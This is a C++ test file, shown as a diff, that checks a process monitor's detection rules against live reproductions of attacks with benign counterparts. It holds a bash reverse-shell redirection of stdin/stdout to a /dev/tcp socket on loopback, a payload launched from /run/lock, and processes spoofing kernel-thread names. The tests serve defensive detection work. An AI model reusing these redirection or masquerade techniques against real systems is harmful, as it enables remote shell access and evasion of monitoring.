@@ -1,0 +1,261 @@
+// Live tests of issue 17's file-system and descriptor blind spots (cases 3
+// and 8), each reproducing the attack as the issue writes it with the real
+// procmond and the real rule, next to a benign twin:
+// - a shell that moves its stdin/stdout onto a socket after it started
+//   (proc-reverse-shell-socket-stdio, seen by a running procmond's next scans);
+// - a payload run from /run/lock, a world-writable directory that is not
+//   /tmp or /var/tmp (proc-exec-from-tmp over writable_dirs);
+// - a process posing as a kernel thread with trailing white space,
+//   "[kworker/0:1] " (proc-kernel-thread-masquerade).
+// The cases that need root (a world-writable directory of root's, a hard
+// link owned by another user) are in rules_blindspots_fs_privileged_test.cc.
+#include <fcntl.h>
+#include <signal.h>
+#include <spawn.h>
+#include <sys/stat.h>
+#include <sys/statvfs.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+#include <cerrno>
+#include <cstring>
+#include <filesystem>
+#include <string>
+#include <vector>
+
+#include "sentinel/storage/sqlite.h"
+#include "sentinel/testing/temp_dir.h"
+#include "tests/rules/rules_fixture.h"
+
+extern char** environ;
+
+namespace sentinel::rules_test {
+namespace {
+
+std::string Sleep() {
+  return SystemBinary("sleep");
+}
+
+// procmond as a daemon scanning every second into `db` (no real-time
+// source), stopped with SIGTERM (its queued scans written) on Stop().
+class ScanningProcmond {
+ public:
+  ScanningProcmond(const std::string& dir, const std::string& db)
+      : db_(db), err_(dir + "/procmond-scan.err") {
+    std::vector<std::string> env;
+    for (char** e = environ; *e; ++e) {
+      if (std::string(*e).rfind("SENTINELD_", 0) != 0) env.emplace_back(*e);
+    }
+    for (const std::string& s : std::vector<std::string>{
+             "HOME=" + dir, "XDG_CONFIG_HOME=" + dir + "/.config", "SENTINELD_DATABASE__PATH=" + db,
+             "SENTINELD_DATABASE__AUDIT_PATH=" + dir + "/audit-scan.db",
+             "SENTINELD_COLLECTION__INTERVAL_SECS=1", "SENTINELD_COLLECTION__REALTIME_EVENTS=false",
+             "SENTINELD_IPC__SOCKET_DIR=" + dir + "/ipc", "SENTINELD_TELEMETRY__LOG_FORMAT=text"}) {
+      env.push_back(s);
+    }
+    // root is refused as privileges.user; procmond keeps what it needs.
+    if (::geteuid() == 0) env.emplace_back("SENTINELD_PRIVILEGES__USER=nobody");
+    std::vector<char*> cenv;
+    for (auto& s : env) cenv.push_back(s.data());
+    cenv.push_back(nullptr);
+    std::string bin = ProcmondBin();
+    char* argv[] = {bin.data(), nullptr};
+    posix_spawn_file_actions_t fa;
+    posix_spawn_file_actions_init(&fa);
+    posix_spawn_file_actions_addopen(&fa, 2, err_.c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0600);
+    if (posix_spawn(&pid_, bin.c_str(), &fa, nullptr, argv, cenv.data()) != 0) pid_ = -1;
+    posix_spawn_file_actions_destroy(&fa);
+  }
+  ~ScanningProcmond() { Stop(); }
+  ScanningProcmond(const ScanningProcmond&) = delete;
+  ScanningProcmond& operator=(const ScanningProcmond&) = delete;
+
+  // Completed scans in the store (0 before the first).
+  int64_t Scans() const {
+    auto db = storage::Database::Open(db_, storage::OpenMode::kReadOnly);
+    if (!db.ok()) return 0;
+    auto n = (*db)->QueryInt("SELECT count(*) FROM scan_metadata WHERE status = 'completed'");
+    return n.ok() ? n->value_or(0) : 0;
+  }
+  // Waits for `more` scans completed after this call.
+  bool WaitForScans(int64_t more) {
+    const int64_t target = Scans() + more;
+    return pid_ > 0 && WaitUntil([&] { return Scans() >= target; }, 30s);
+  }
+  // Waits until a completed scan recorded `pid`.
+  bool WaitForProcess(pid_t pid) {
+    return pid_ > 0 && WaitUntil(
+                           [&] {
+                             auto db = storage::Database::Open(db_, storage::OpenMode::kReadOnly);
+                             if (!db.ok()) return false;
+                             auto n = (*db)->QueryInt("SELECT count(*) FROM processes WHERE pid = " +
+                                                      std::to_string(pid));
+                             return n.ok() && n->value_or(0) > 0;
+                           },
+                           30s);
+  }
+  void Stop() {
+    if (pid_ <= 0) return;
+    ::kill(pid_, SIGTERM);
+    int status = 0;
+    ::waitpid(pid_, &status, 0);
+    pid_ = -1;
+  }
+  std::string Log() const { return testing::ReadFile(err_); }
+
+ private:
+  std::string db_;
+  std::string err_;
+  pid_t pid_ = -1;
+};
+
+// "socket:[N]" / "pipe:[N]" / a path: what `fd` of `pid` points at now.
+std::string FdLink(pid_t pid, int fd) {
+  char buf[256];
+  const std::string link = "/proc/" + std::to_string(pid) + "/fd/" + std::to_string(fd);
+  const ssize_t n = ::readlink(link.c_str(), buf, sizeof buf - 1);
+  return n < 0 ? "" : std::string(buf, static_cast<size_t>(n));
+}
+
+class StdioMoveTest : public RuleLiveTest {
+ protected:
+  // A bash that waits on a FIFO, then runs `redirect` (an `exec` of
+  // redirections only: bash itself moves its descriptors), then sleeps.
+  // procmond scans it first as it started, then the test releases it.
+  void StartAndRelease(const std::string& redirect, pid_t* shell_pid) {
+    fifo_ = work().File("go");
+    ASSERT_EQ(::mkfifo(fifo_.c_str(), 0600), 0) << std::strerror(errno);
+    shell_ =
+        TestProcess::Start(SystemBinary("bash"),
+                           {"bash", "-c", "read -r _ < '" + fifo_ + "'; " + redirect + "; sleep 1000; true"});
+    ASSERT_NE(shell_, nullptr);
+    *shell_pid = shell_->pid();
+    db_ = work().File("events-scan.db");
+    procmond_ = std::make_unique<ScanningProcmond>(work().path(), db_);
+    ASSERT_TRUE(procmond_->WaitForProcess(shell_->pid())) << procmond_->Log();
+    const int w = ::open(fifo_.c_str(), O_WRONLY | O_CLOEXEC);
+    ASSERT_GE(w, 0) << std::strerror(errno);
+    ASSERT_EQ(::write(w, "\n", 1), 1);
+    ::close(w);
+  }
+  // Waits for two scans after the shell's descriptors moved, stops procmond
+  // and runs the rule over its store.
+  detection::RuleResult AfterTwoScans(const std::string& rule) {
+    EXPECT_TRUE(procmond_->WaitForScans(2)) << procmond_->Log();
+    procmond_->Stop();
+    return Run(rule, db_);
+  }
+
+  std::string fifo_, db_;
+  std::unique_ptr<TestProcess> shell_;
+  std::unique_ptr<ScanningProcmond> procmond_;
+};
+
+// ---------------------------------------------------------------------------
+// proc-reverse-shell-socket-stdio: the move after the start (case 3)
+
+TEST_F(StdioMoveTest, ProcReverseShellSocketStdio_ShellMovesStdioToASocketAfterItStarted) {
+  LoopbackConnection conn;
+  ASSERT_TRUE(conn.ok());
+  pid_t pid = -1;
+  StartAndRelease("exec 0<>/dev/tcp/127.0.0.1/" + std::to_string(conn.port()) + " 1>&0 2>&0", &pid);
+  ASSERT_TRUE(WaitUntil([&] { return FdLink(pid, 0).rfind("socket:", 0) == 0; })) << FdLink(pid, 0);
+  ASSERT_EQ(FdLink(pid, 1), FdLink(pid, 0));
+  auto row = ExpectOneRow(AfterTwoScans("proc-reverse-shell-socket-stdio"), pid);
+  EXPECT_EQ(row.value("name", ""), "bash");
+  EXPECT_NE(row.value("stdin_socket_inode", int64_t{0}), 0) << row.dump();
+}
+
+TEST_F(StdioMoveTest, ProcReverseShellSocketStdio_ShellMovesStdioToAFileOrOnlyStdoutToASocket) {
+  // The benign twins of the move: a script sending its output to a log
+  // (stdin from /dev/null), and one logging to a socket with stdin kept
+  // (a journal stream).
+  LoopbackConnection conn;
+  ASSERT_TRUE(conn.ok());
+  pid_t to_log = -1;
+  StartAndRelease("exec </dev/null >'" + work().File("out.log") + "' 2>&1", &to_log);
+  auto journal_like = TestProcess::Start(
+      SystemBinary("bash"),
+      {"bash", "-c",
+       "exec 1<>/dev/tcp/127.0.0.1/" + std::to_string(conn.port()) + " 2>&1; sleep 1000; true"});
+  ASSERT_NE(journal_like, nullptr);
+  ASSERT_TRUE(WaitUntil([&] { return FdLink(to_log, 1) == work().File("out.log"); })) << FdLink(to_log, 1);
+  ASSERT_TRUE(WaitUntil([&] { return FdLink(journal_like->pid(), 1).rfind("socket:", 0) == 0; }));
+  ExpectNoRows(AfterTwoScans("proc-reverse-shell-socket-stdio"), {to_log, journal_like->pid()});
+}
+
+// ---------------------------------------------------------------------------
+// proc-exec-from-tmp over writable_dirs: /run/lock (case 8)
+
+TEST_F(RuleLiveTest, ProcExecFromTmp_RunLockIsWorldWritableToo) {
+  struct stat st {};
+  if (::stat("/run/lock", &st) != 0 || !(st.st_mode & S_IWOTH)) {
+    GTEST_SKIP() << "no world-writable /run/lock on this host";
+  }
+  struct statvfs vfs {};
+  if (::statvfs("/run/lock", &vfs) == 0 && (vfs.f_flag & ST_NOEXEC)) {
+    GTEST_SKIP() << "/run/lock is mounted noexec here: nothing can run from it";
+  }
+  ScratchDir lock("/run/lock");
+  ASSERT_TRUE(lock.ok()) << "cannot create a directory in /run/lock";
+  const std::string bin = lock.File("payload");
+  CopyExecutable(Sleep(), bin);
+  auto p = TestProcess::Start(bin, {"payload", "1000"});
+  ASSERT_NE(p, nullptr);
+  auto row = ExpectOneRow(ScanAndRun("proc-exec-from-tmp"), p->pid());
+  EXPECT_EQ(row.value("exe_path", ""), bin);
+}
+
+TEST_F(RuleLiveTest, ProcExecFromTmp_ADirectoryNamedLikeAWritableOneIsNot) {
+  // Whole path components count: /run/lock.XXXXXX (mode 0700, beside
+  // /run/lock, and sorting just before "/run/lock/") is not /run/lock; nor
+  // is a packaged program under any writable directory.
+  std::string dir = "/run/lock.sentinel-XXXXXX";
+  if (::mkdtemp(dir.data()) == nullptr)
+    GTEST_SKIP() << "cannot create a directory in /run: " << std::strerror(errno);
+  struct Cleanup {
+    std::string dir;
+    ~Cleanup() {
+      std::error_code ec;
+      std::filesystem::remove_all(dir, ec);
+    }
+  } cleanup{dir};
+  const std::string bin = dir + "/payload";
+  CopyExecutable(Sleep(), bin);
+  auto p = TestProcess::Start(bin, {"payload", "1000"});
+  auto system = TestProcess::Start(Sleep(), {"sleep", "1000"});
+  ASSERT_TRUE(p && system);
+  ExpectNoRows(ScanAndRun("proc-exec-from-tmp"), {p->pid(), system->pid()});
+}
+
+// ---------------------------------------------------------------------------
+// proc-kernel-thread-masquerade with trailing white space (case 8)
+
+TEST_F(RuleLiveTest, ProcKernelThreadMasquerade_TrailingSpaces) {
+  // exec -a "[kworker/0:1] " payload: argv[0] only; and a comm of its own.
+  const std::string bin = work().File("bin/payload");
+  CopyExecutable(ProbeBin(), bin);
+  auto argv0 = TestProcess::Start(bin, {"[kworker/0:1] ", "x"});
+  auto comm =
+      TestProcess::Start(ProbeBin(), {"[kworker/0:1]  "}, {.env = {"RULE_PROBE_COMM=[kworker/0:1] "}});
+  auto nbsp = TestProcess::Start(bin, {"[kworker/0:1]\u00a0"});
+  ASSERT_TRUE(argv0 && comm && nbsp);
+  ASSERT_TRUE(WaitUntil([&] { return Comm(comm->pid()) == "[kworker/0:1] "; })) << Comm(comm->pid());
+  auto r = ScanAndRun("proc-kernel-thread-masquerade");
+  ExpectOneRow(r, argv0->pid());
+  EXPECT_EQ(ExpectOneRow(r, comm->pid()).value("name", ""), "[kworker/0:1] ");
+  ExpectOneRow(r, nbsp->pid());
+}
+
+TEST_F(RuleLiveTest, ProcKernelThreadMasquerade_TrailingSpacesOnAnOrdinaryName) {
+  // White space around an ordinary name, and a bracketed title that does
+  // not end in ']' (celery's "[celeryd: ...] -active-").
+  auto spaced = TestProcess::Start(ProbeBin(), {"worker-1 "}, {.env = {"RULE_PROBE_COMM= worker-1 "}});
+  auto title = TestProcess::Start(ProbeBin(), {"[celeryd: w@host:MainProcess] -active- (worker)"});
+  ASSERT_TRUE(spaced && title);
+  ASSERT_TRUE(WaitUntil([&] { return Comm(spaced->pid()) == " worker-1 "; }));
+  ExpectNoRows(ScanAndRun("proc-kernel-thread-masquerade"), {spaced->pid(), title->pid()});
+}
+
+}  // namespace
+}  // namespace sentinel::rules_test
